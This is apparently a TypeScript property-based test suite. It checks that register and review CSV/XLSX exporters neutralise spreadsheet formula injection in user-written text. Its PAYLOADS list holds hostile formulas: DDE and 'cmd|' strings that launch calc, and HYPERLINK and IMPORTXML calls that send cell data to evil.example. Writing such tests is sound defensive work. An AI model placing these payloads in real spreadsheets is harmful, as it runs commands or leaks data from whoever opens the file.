import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import type { RegisterValues } from '../register/register-file.js';
import { writeRegisterCsv } from '../register/write-register-csv.js';
import { writeRegisterXlsx } from '../register/write-register-xlsx.js';
import { writeReviewCsv } from '../review/write-review-csv.js';
import { writeReviewXlsx } from '../review/write-review-xlsx.js';
import { sampleReview } from '../testing/sample-review.js';

/** What runs in a spreadsheet, or once did. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"xem")', '1+1', 'SUM(A1:A9)', 'IMPORTXML("http://evil.example","//a")', 'DDE("cmd";"/C calc";"x")', 'x', '"', ',', ';x'];
const hostile = fc.tuple(fc.constantFrom('', "'", "''", '"'), fc.constantFrom(...SIGNS), fc.constantFrom(...PAYLOADS)).map((parts) => parts.join(''));

/** The cells of a .csv as a spreadsheet cuts it. */
function cellsOf(bytes: Uint8Array): string[] {
  const cells: string[] = [];
  const text = new TextDecoder().decode(bytes);
  for (const [, quoted, plain] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g)) cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
  return cells;
}
const runs = (cell: string): boolean => SIGNS.some((sign) => cell.startsWith(sign)) && !/^-?\d+(?:[.,]\d+)?$/.test(cell);
async function formulasOf(bytes: Uint8Array): Promise<string[]> {
  const { sheets } = await readXlsx(bytes);
  return sheets.flatMap(({ cells }) => [...(cells?.values() ?? [])].flatMap(({ formula }) => (formula === undefined ? [] : [formula])));
}

describe('what people wrote is no formula', () => {
  it('in the register', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 4, maxLength: 40 }), async (texts) => {
        const rows = texts.map((text, index): RegisterValues => ({
          code: `1.${String(index).padStart(6, '0')}`, name: text, field: text, barrier: text, level: 3, level4On: null, registeredLevel: null, promisedOn: null, feeBearing: null,
          paymentOn: null, paymentSince: null, receiptOn: null, receiptSince: null, dossiersOnline: null, dossiersCounter: null, dossiersPost: null, paidOnline: null, receiptsIssued: null,
        }));
        const paper = { locale: 'vi' as const, agency: { code: 'SXD', name: texts[0] ?? '' }, period: { code: '2019-Q3', label: texts[1] ?? '' }, generatedOn: '2019-09-16', illustrative: true, rows };
        expect(cellsOf(writeRegisterCsv(paper)).filter(runs)).toEqual([]);
        expect(await formulasOf(await writeRegisterXlsx(paper))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it('in the review', async () => {
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        const sample = sampleReview();
        const groups = sample.groups.map((group) => ({ ...group, rows: group.rows.map((row) => ({ ...row, agencyName: text })) }));
        const paper = { ...sample, groups };
        expect(cellsOf(writeReviewCsv(paper)).filter(runs)).toEqual([]);
        // The workbook has formulas of its own; none more for what somebody wrote.
        expect((await formulasOf(await writeReviewXlsx(paper))).length).toBe((await formulasOf(await writeReviewXlsx(sample))).length);
      }),
      { numRuns: 30 },
    );
  });
});
